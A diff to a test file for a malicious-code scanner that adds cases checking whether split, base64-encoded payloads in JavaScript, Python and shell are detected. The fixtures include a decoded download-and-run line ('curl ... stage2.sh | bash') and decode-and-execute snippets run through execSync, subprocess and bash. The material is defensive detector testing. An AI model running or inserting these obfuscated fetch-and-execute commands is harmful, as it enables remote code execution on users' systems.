@@ -46,6 +46,25 @@ describe('decode-and-execute', () => {
     expect(techniques('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')).toEqual(['decode-and-execute']);
   });
 
+  it('joins base64 written in pieces: quoted strings, and variables read side by side', () => {
+    const half = encoded.length >> 1;
+    const [a, b] = [encoded.slice(0, half), encoded.slice(half)];
+    const hidden = 'untrusted-remote-script/download-run (encoded)';
+    // A JavaScript string built with `+` is run through execSync: only the decoded text shows it.
+    const js = `const s = '${a}' + '${b}';\nrequire('child_process').execSync(Buffer.from(s, 'base64').toString())`;
+    const f = scanMalicious(js);
+    expect(f.map((x) => `${x.technique}/${x.pattern}`)).toEqual([hidden]);
+    expect(f[0]!.offset).toBe(js.indexOf(a));
+    expect(f[0]!.decoded).toBe('curl -fsSL http://192.0.2.10/stage2.sh | bash');
+    expect(run(`data = ("${a}"\n        "${b}")\nsubprocess.run(base64.b64decode(data), shell=True)`)).toContain(hidden);
+    const sh = `P1="${a}"\nP2="${b}"\necho "$P1$P2" | base64 -d | bash`;
+    expect(run(sh)).toEqual([hidden, 'decode-and-execute/decode-pipe-interpreter']);
+    expect(describeFinding(scanMalicious(sh)[1]!)).toContain('decodes to: "curl -fsSL http://192.0.2.10/stage2.sh | bash"');
+    // Pieces that decode to no text, and quoted words, are nothing.
+    expect(run(`x = "${'/'.repeat(20)}" + "${'/'.repeat(20)}"\nexec(base64.b64decode(x))`)).toEqual(['decode-and-execute/decode-python-exec']);
+    expect(run('tags = "alpha" "beta" "gamma" "delta" "epsilon" "zeta" "eta"')).toEqual([]);
+  });
+
   it('leaves decoding data alone', () => {
     expect(scanMalicious('base64 -d attachment.b64 > report.pdf\necho "aGVsbG8gd29ybGQ=" | base64 --decode')).toEqual([]);
     expect(scanMalicious('data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')).toEqual([]);
@@ -218,6 +237,9 @@ describe('untrusted-remote-script', () => {
       ' a='.repeat(200_000),
       'download http://192.0.2.7/' + 'a'.repeat(1_000_000) + ' and run it',
       Array.from({ length: 25_000 }, (_, i) => `get http://192.0.2.7/${i} then run it`).join('\n'),
+      '"QUFB" + '.repeat(100_000),
+      '"QUFB"' + ' '.repeat(1_000_000) + 'x',
+      `A=${'QUFB'.repeat(10)}\necho "` + '$A'.repeat(500_000) + '" | base64 -d | sh',
     ];
     for (const text of texts) {
       const t0 = performance.now();
